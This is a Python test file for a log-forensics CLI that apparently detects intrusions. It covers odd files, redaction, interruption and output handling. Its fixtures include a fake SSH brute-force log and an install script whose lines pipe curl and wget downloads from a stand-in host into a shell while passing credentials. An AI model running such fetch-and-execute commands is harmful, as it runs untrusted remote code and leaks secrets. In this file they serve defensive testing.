#!/usr/bin/env python3
"""What can be named as evidence and what is said of it: odd files, odd names, secrets, evidence
that harms the process that reads it, and an end before the end.

usage: tests/cli/evidence.py TOCSIN [NAME...]"""

import ctypes
import errno
import fcntl
import hashlib
import json
import os
import pathlib
import pty
import re
import resource
import signal
import socket
import stat
import struct
import subprocess
import sys
import termios
import threading
import time

from person import case, main, one_line

INTRUSION = pathlib.Path(__file__).resolve().parent.parent.parent / "examples" / "intrusion"
LINE = "2026-03-03T02:10:{:02d}+00:00 web01 sshd[{}]: {}\n"
HAS_HOOKS = os.environ.get("HAS_HOOKS") == "true"  # tests/cli/meson.build says


def login_log(count=12, accepted=True):
    """A log of guessing, which succeeds at its end."""
    lines = [LINE.format(number, 100 + number, f"Failed password for deploy from 203.0.113.7 port {4000 + number} ssh2")
             for number in range(count)]
    if accepted:
        lines.append(LINE.format(count, 200, "Accepted password for deploy from 203.0.113.7 port 4999 ssh2"))
    return "".join(lines)


def analyze(person, *words, status=0, **more):
    return json.loads(person.run("analyze", *words, "--format", "json", status=status, **more).out)


def rows(report):
    return {row["path"]: row for row in report["evidence"]}


@case
def what_is_no_file_is_skipped_and_said(person):
    logs = person.folder / "logs"
    (logs / "sub").mkdir(parents=True)
    (logs / "auth.log").write_text(login_log())
    (logs / "link").symlink_to("auth.log")
    (logs / "folder").symlink_to("sub")
    os.mkfifo(logs / "sub" / "pipe")
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(logs / "socket"))
        report = analyze(person, "logs", status=1)
    whys = {path: row["why"] for path, row in rows(report).items()}
    assert whys == {"auth.log": "", "link": "a link, not followed", "folder": "a link, not followed",
                    "sub/pipe": "not a file: a device, pipe or socket",
                    "socket": "not a file: a device, pipe or socket"}, whys
    assert all(row["examined"] == "no" for path, row in rows(report).items() if path != "auth.log")


@case
def a_link_that_is_named_is_followed(person):
    (person.folder / "logs").mkdir()
    (person.folder / "logs" / "auth.log").write_text(login_log())
    (person.folder / "named").symlink_to("logs")
    assert person.run("analyze", "named", status=1).out == person.run("analyze", "logs", status=1).out


@case
def the_same_bytes_are_one_evidence(person):
    for root in ("a/logs", "b/logs"):
        (person.folder / root).mkdir(parents=True)
        (person.folder / root / "auth.log").write_text(login_log())
    (person.folder / "b/logs" / "other.log").write_text(login_log(3, False))
    report = analyze(person, "a/logs", "b/logs", status=1)
    assert {path: row["also"] for path, row in rows(report).items()} == {
        "logs/auth.log": ["logs~2/auth.log"], "logs~2/other.log": []}, rows(report)


@case
def a_name_of_any_bytes_is_one_word(person):
    name = b"a\xff\x1b[31m b%c!d~2#x\n\xe2\x80\xae.log"
    (person.folder / "logs").mkdir()
    with open(os.fsencode(person.folder / "logs") + b"/" + name, "w") as file:
        file.write(login_log())
    report = analyze(person, "logs", status=1)
    (path,) = rows(report)
    assert path == "a%FF%1B%5B31m%20b%25c%21d%7E2%23x%0A%E2%80%AE.log", path
    person.file("report.json", json.dumps(report))
    shown = person.run("show", "report.json", f"{path}:13").out
    assert "Accepted password" in shown and "\x1b" not in shown and "\u202e" not in shown


@case
def nothing_that_could_be_read_is_no_quiet_day(person):
    os.mkfifo(person.folder / "pipe")
    trace = person.run("analyze", "pipe", status=2)
    assert "nothing that was named could be read: pipe: not a file" in one_line(trace.err)
    assert "not examined" in trace.out
    trace = person.run("analyze", "-", stdin=None, preexec_fn=lambda: os.close(0), status=2)
    assert "stdin: Bad file descriptor" in one_line(trace.err)
    (person.folder / "empty").mkdir()
    trace = person.run("analyze", "empty")
    assert "there is no file in what was named" in one_line(trace.err)
    person.file("plan.pdf", "%PDF-1.7\n")
    trace = person.run("analyze", "plan.pdf", status=2)
    assert "nothing that was named could be examined" in one_line(trace.err)
    assert "not examined" in trace.out
    person.file("auth.log", login_log())
    person.run("analyze", "plan.pdf", "auth.log", status=1)
    person.run("analyze", "pipe", "auth.log", status=1)
    (person.folder / "auth.log").write_text(login_log(2, False))
    person.run("analyze", "pipe", "auth.log", status=0)


@case
def what_is_closed_is_not_written_to(person):
    person.file("auth.log", login_log())
    for number in (1, 2):
        person.start("analyze", "auth.log", preexec_fn=lambda: os.close(number)).wait(timeout=60)
    person.run("access", "audit", "verify")
    assert (person.folder / "auth.log").read_text() == login_log()


@case
def standard_input_longer_than_its_limit_is_cut_and_said(person):
    process = person.start("analyze", "-", "--format", "json", stdin=subprocess.PIPE)
    log = login_log().encode()
    filler = b"2026-03-03T03:00:00+00:00 web01 app[1]: nothing\n" * 4096

    def feed():
        try:
            process.stdin.buffer.write(log)
            for _ in range(129 * 1024 * 1024 // len(filler) + 1):
                process.stdin.buffer.write(filler)
            process.stdin.close()
        except BrokenPipeError:
            pass
    feeder = threading.Thread(target=feed)
    feeder.start()
    report = json.loads(process.stdout.read())
    feeder.join()
    process.wait(timeout=300)
    row = rows(report)["stdin"]
    assert row["size"] == 128 * 1024 * 1024 and row["examined"] == "partly", row
    assert "longer than 128 MB" in row["why"], row
    assert report["verdict"] == "malicious"


@case
def a_file_that_grows_is_read_as_far_as_it_went(person):
    path = person.file("auth.log", login_log())
    stop = threading.Event()

    def grow():
        with open(path, "a") as file:
            while not stop.is_set():
                file.write(LINE.format(59, 300, "Connection closed by 192.0.2.9 port 22 [preauth]"))
                file.flush()
    writer = threading.Thread(target=grow)
    writer.start()
    try:
        report = analyze(person, "auth.log", status=1)
    finally:
        stop.set()
        writer.join()
    row = report["evidence"][0]
    hashed = path.read_bytes()[:row["size"]]
    assert report["verdict"] == "malicious" and row["size"] >= len(login_log())
    assert row["sha256"] == hashlib.sha256(hashed).hexdigest()
    assert row["coverage"]["counts"]["lines"] == len(hashed.splitlines()), row


@case
def a_file_that_shrinks_costs_itself_alone(person):
    (person.folder / "logs").mkdir()
    (person.folder / "logs" / "auth.log").write_text(login_log())
    path = person.folder / "logs" / "live.log"
    stop = threading.Event()

    def churn():
        while not stop.is_set():
            path.write_text(login_log(2, False) * 4000)
            os.truncate(path, 100)
    writer = threading.Thread(target=churn)
    writer.start()
    try:
        for _ in range(5):
            report = analyze(person, "logs", status=1)
            assert report["verdict"] == "malicious"
            assert rows(report)["auth.log"]["examined"] == "whole"
            assert rows(report)["live.log"]["why"] in (
                "", "written to while it was read", "it was written to while it was examined"), rows(report)
    finally:
        stop.set()
        writer.join()


@case
def evidence_that_harms_its_reader_costs_itself_alone(person):
    if not HAS_HOOKS:
        return
    (person.folder / "logs").mkdir()
    for word in ("abort", "loop", "memory"):
        (person.folder / "logs" / word).write_text(f"TOCSIN-HOOK {word}\n")
    (person.folder / "logs" / "auth.log").write_text(login_log())
    person.environment["TOCSIN_HOOK_WALL_MS"] = "3000"
    report = analyze(person, "logs", "--jobs", "2", status=1)
    whys = {path: row["why"] for path, row in rows(report).items()}
    assert whys == {"abort": "examining it ended in a crash",
                    "loop": "examining it took too long: the clock ended it",
                    "memory": "examining it took too much memory", "auth.log": ""}, whys
    assert {row["verdict"] for path, row in rows(report).items() if path != "auth.log"} == {"not examined"}
    assert report["verdict"] == "malicious" and report["partial"] is False


@case
def an_end_before_the_end_gives_what_is_known(person):
    (person.folder / "logs").mkdir()
    (person.folder / "logs" / "a.log").write_text(login_log())
    for number in range(3000):
        (person.folder / "logs" / f"b{number}.log").write_text(login_log(2, False) + f"{number}\n")
    process = person.start("analyze", "logs", "--jobs", "1", "--format", "json")
    time.sleep(4)
    process.send_signal(signal.SIGINT)
    out, err = process.communicate(timeout=120)
    report = json.loads(out)
    stopped = [row for row in report["evidence"] if "stopped before" in row["why"]]
    assert report["partial"] is True and stopped, (len(report["evidence"]), err)
    assert re.search(r"stopped: \d+ of 3001 files were examined", one_line(err)), err
    assert process.returncode == (1 if rows(report)["a.log"]["examined"] == "whole" else 0)


SECRET = "Hunter2Hunter2"
SCRIPT = f"""#!/bin/sh
curl -u deploy:{SECRET} http://203.0.113.7/a.sh | sh
mysql -u root -p{SECRET} -e 'select 1' | curl -s http://203.0.113.7/b.sh | sh
curl -s -H 'Authorization: Bearer {SECRET}' http://203.0.113.7/c.sh | bash
wget -qO- http://bob:{SECRET}@203.0.113.7/d.sh | sh
wget -qO- --password={SECRET} http://203.0.113.7/e.sh | sh
API_TOKEN={SECRET} sh -c "$(curl -fsSL http://203.0.113.7/f.sh)"
"""


@case
def secrets_leave_excerpts_where_that_is_asked_for(person):
    person.file("install.sh", SCRIPT)
    plain = person.run("analyze", "install.sh", "--format", "json").out
    assert SECRET in plain
    for words in (("--format", "json"), ("--audience", "analyst"), ()):
        out = person.run("analyze", "install.sh", "--redact", *words).out
        assert SECRET not in out, out
    kept = person.run("analyze", "install.sh", "--redact", "--format", "json").out
    assert "[redacted]" in kept
    assert json.loads(kept)["verdict"] == json.loads(plain)["verdict"]


@case
def times_that_were_not_asked_for_are_left_out(person):
    person.file("auth.log", login_log())
    assert analyze(person, "auth.log", "--until", "2026-03-03T02:09:00Z")["findings"] == []
    assert analyze(person, "auth.log", "--since", "2026-03-04")["findings"] == []
    found = analyze(person, "auth.log", "--since", "2026-03-03", "--until", "2026-03-03T02:10:30Z", status=1)
    assert found["verdict"] == "malicious"


@case
def year_and_zone_are_taken_from_who_knows_them(person):
    log = re.sub(r"2026-03-03T(\S{8})\+00:00", r"Mar  3 \1", login_log())
    person.file("auth.log", log)
    (finding,) = [one for one in analyze(person, "auth.log", "--year", "2025", "--zone", "+02:00", status=1)["findings"]
                  if one["rule"] == "behaviour/login-after-guessing"]
    assert finding["first"].startswith("2025-03-03T00:10:12"), finding["first"]
    assert analyze(person, "auth.log", "--year", "2025", "--zone", "-0530", status=1)["incidents"][0]["first"] \
        .startswith("2025-03-03T07:40:00")
    assert analyze(person, "auth.log", "--year", "2025", "--since", "2026-01-01")["findings"] == []


@case
def the_status_follows_the_worst_that_was_found(person):
    person.file("quiet.log", login_log(12, False))
    for level, status in (("info", 1), ("low", 1), ("medium", 1), ("high", 0), ("critical", 0)):
        person.run("analyze", "quiet.log", "--fail-on", level, status=status)


@case
def text_fits_its_width_and_is_coloured_only_where_asked(person):
    plain = person.run("analyze", INTRUSION, status=1).out
    coloured = person.run("analyze", INTRUSION, "--color=always", status=1).out
    assert "\x1b" not in plain and re.sub(r"\x1b\[[0-9;]*m", "", coloured) == plain
    assert max(len(line) for line in plain.splitlines()) <= 80
    assert "hxxp" in person.run("analyze", INTRUSION, "--audience", "analyst", status=1).out


def on_terminal(person, *words, columns=80, **environment):
    """What the program writes where all three standard files are a terminal."""
    first, second = pty.openpty()
    fcntl.ioctl(second, termios.TIOCSWINSZ, struct.pack("HHHH", 40, columns, 0, 0))
    process = subprocess.Popen([person.program, *map(str, words)], cwd=person.folder, stdin=second, stdout=second,
                               stderr=second, env={**person.environment, "TERM": "xterm", **environment})
    os.close(second)
    out = b""
    while True:
        try:
            piece = os.read(first, 65536)
        except OSError:
            break
        if not piece:
            break
        out += piece
    os.close(first)
    process.wait(timeout=60)
    return out.decode().replace("\r\n", "\n")


CODES = re.compile(r"\x1b\[[0-9;]*[mK]|\r")


@case
def a_terminal_gets_colour_its_width_and_progress(person):
    for columns, width in ((40, 40), (80, 80), (200, 120)):
        shown = on_terminal(person, "analyze", INTRUSION, columns=columns)
        page = shown[shown.index("Verdict:"):]
        assert "\x1b[0;1;31m" in shown and "reading rules\r" in shown
        lines = CODES.sub("", page).splitlines()
        # What is one word is not broken: a citation, an indicator.
        assert all(len(line) <= width or " " not in line.strip() for line in lines), max(lines, key=len)
        assert max(map(len, lines)) > width * 0.8
    plain = CODES.sub("", on_terminal(person, "analyze", INTRUSION))
    assert plain[plain.index("Verdict:"):] == person.run("analyze", INTRUSION, status=1).out
    for quiet in ({"NO_COLOR": "1"}, {"TERM": "dumb"}):
        shown = on_terminal(person, "analyze", INTRUSION, **quiet)
        assert "\x1b[0" not in shown, shown[:200]
    assert "\x1b[0;1m" in on_terminal(person, "analyze", INTRUSION, "--color", "always", NO_COLOR="1")


def without_landlock():
    """Has the kernel answer as one that has no Landlock (BPF: seccomp(2)); children inherit it."""
    load, equal, give = 0x20, 0x15, 0x06
    create_ruleset, not_there, allow = 444, 0x00050000 | errno.ENOSYS, 0x7FFF0000
    program = [(load, 0, 0, 0), (equal, 0, 1, create_ruleset), (give, 0, 0, not_there), (give, 0, 0, allow)]
    code = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *row) for row in program))
    filters = struct.pack("HxxxxxxP", len(program), ctypes.addressof(code))
    library = ctypes.CDLL(None, use_errno=True)
    assert library.prctl(38, 1, 0, 0, 0) == 0
    assert library.prctl(22, 2, filters, 0, 0) == 0


@case
def a_kernel_without_landlock_is_said_once(person):
    here = person.run("analyze", INTRUSION, "--format", "json", status=1)
    trace = person.run("analyze", INTRUSION, "--format", "json", "--jobs", "3", status=1, preexec_fn=without_landlock)
    assert one_line(trace.err) == "tocsin: this kernel has no Landlock; the other walls stand\n"
    assert trace.out == here.out


@case
def nothing_moves_in_a_pipe(person):
    person.environment["TERM"] = "xterm"
    trace = person.run("analyze", INTRUSION, status=1)
    assert trace.err == "" and "\x1b" not in trace.out and "\r" not in trace.out


@case
def a_home_is_made_for_its_owner_alone(person):
    person.file("auth.log", login_log())
    person.run("analyze", "auth.log", status=1)
    for path in [person.home, *person.home.rglob("*")]:
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode == (0o700 if path.is_dir() else 0o644 if path.name == "owner.vkey" else 0o600), (path, oct(mode))


@case
def without_a_home_it_goes_on_and_says_so(person):
    person.file("auth.log", login_log())
    report = person.run("analyze", "auth.log", "--format", "json", status=1).out
    person.file("report.json", report)
    kept = dict(person.environment)
    for home in ({}, {"TOCSIN_HOME": "", "HOME": ""}, {"TOCSIN_HOME": str(person.folder / "auth.log")},
                 {"TOCSIN_HOME": "/proc/self/nowhere"}, {"TOCSIN_HOME": str(person.folder / "auth.log" / "below")}):
        person.environment = {"PATH": kept["PATH"], **home}
        trace = person.run("analyze", "auth.log", "--format", "json", status=1)
        assert trace.out == report and "this was not recorded: " in one_line(trace.err), home
        trace = person.run("extract", "report.json", "auth.log:13", "--to", ".", status=2)
        assert "verified-needs-a-key" in one_line(trace.err)
        person.run("access", "show")
    assert not list(person.folder.glob("*.bin"))
    person.environment = {**kept, "TOCSIN_HOME": "relative/home"}
    person.run("analyze", "auth.log", status=1)
    (person.folder / "linked").symlink_to("relative/home")
    person.environment["TOCSIN_HOME"] = "linked"
    person.run("analyze", "auth.log", status=1)
    assert "whole: 3 entries" in person.run("access", "audit", "verify").out


@case
def a_disk_that_is_full_leaves_no_half(person):
    report = person.folder / "report.txt"
    report.write_text("before")
    process = person.start("analyze", INTRUSION, "--output", "report.txt",
                           preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (2000, 2000)))
    _, err = process.communicate(timeout=60)
    assert process.returncode == 2, err
    assert report.read_text() == "before"
    assert {path.name for path in person.folder.iterdir()} <= {"home", "report.txt"}
    trace = person.start("analyze", INTRUSION, stdout=open("/dev/full", "w"))
    assert "cannot write standard output: No space left" in one_line(trace.communicate(timeout=60)[1])
    assert trace.returncode == 2


@case
def what_is_wrong_is_said_before_the_work(person):
    (person.folder / "logs").mkdir()
    person.file("site.yaml", "hosts:\n  web01:\n    colour: red\n")
    trace = person.run("analyze", INTRUSION, "--site", "site.yaml", status=2)
    assert "the site file, line 3: a host is" in one_line(trace.err) and trace.out == ""
    for output in ("logs", "logs/", "no/such", "/proc/self/x"):
        before = len(person.entries())
        trace = person.run("analyze", INTRUSION, "--output", output, status=2)
        assert f"cannot write {output}: " in one_line(trace.err), trace.err
        assert len(person.entries()) == before or output.startswith("/proc")


@case
def what_is_read_is_never_written_over(person):
    (person.folder / "logs").mkdir()
    log = person.file("logs/auth.log", login_log())
    report = person.run("analyze", "logs", "--format", "json", "--output", "logs/new.json", status=1)
    for words in (("analyze", "logs/auth.log", "-o", "logs/auth.log"), ("analyze", "logs", "-o", "logs/auth.log"),
                  ("analyze", ".", "-o", "logs/../logs/auth.log"), ("report", "logs/new.json", "-o", "logs/new.json")):
        trace = person.run(*words, status=2)
        assert "part of what is read" in one_line(trace.err), (words, trace.err)
    assert log.read_text() == login_log() and report.out == ""
    person.run("report", "logs/new.json", "-o", "logs/new.txt")


@case
def a_place_is_shown_and_extracted_for_programs_too(person):
    person.file("auth.log", login_log())
    person.file("report.json", person.run("analyze", "auth.log", "--format", "json", status=1).out)
    shown = json.loads(person.run("show", "report.json", "auth.log:13", "--format", "json").out)
    assert shown["source"] == "evidence" and shown["path"] == "./auth.log" and "Accepted" in shown["text"]
    made = json.loads(person.run("extract", "report.json", "auth.log:13", "--format", "json", "--to", ".").out)
    content = (person.folder / made["file"]).read_bytes()
    assert made == {"file": made["sha256"] + ".bin", "sha256": hashlib.sha256(content).hexdigest(),
                    "size": len(content)}
    (person.folder / "auth.log").write_text("something else\n")
    trace = person.run("show", "report.json", "auth.log:13", "--format", "json")
    assert json.loads(trace.out)["source"] == "excerpt"


@case
def a_citation_of_any_kind_is_shown(person):
    report = analyze(person, INTRUSION, status=1)
    person.file("report.json", json.dumps(report))
    (incident,) = report["incidents"]
    cited = {cite["at"] for sentence in incident["story"]["leader"] for cite in sentence["cites"]}
    cited |= {cite["at"] for finding in report["findings"] for cite in finding["cites"]}
    cited |= {"attack:" + name for finding in report["findings"] for name in finding["technique"]}
    cited |= {"playbook:" + step["id"] for step in incident["plan"]}
    kinds = {at.partition(":")[0] for at in cited}
    assert {"coverage", "attack", "playbook"} <= kinds
    for at in sorted(cited)[::5] + [at for at in cited if at.startswith("coverage:")]:
        shown = person.run("show", "report.json", at, "-e", INTRUSION).out
        assert shown.startswith(f"{at}  (") and shown.count("\n") > 1, (at, shown)
    assert "this is none" in one_line(person.run("show", "report.json", "no citation", status=2).err)


if __name__ == "__main__":
    sys.exit(main(set(sys.argv[2:])))
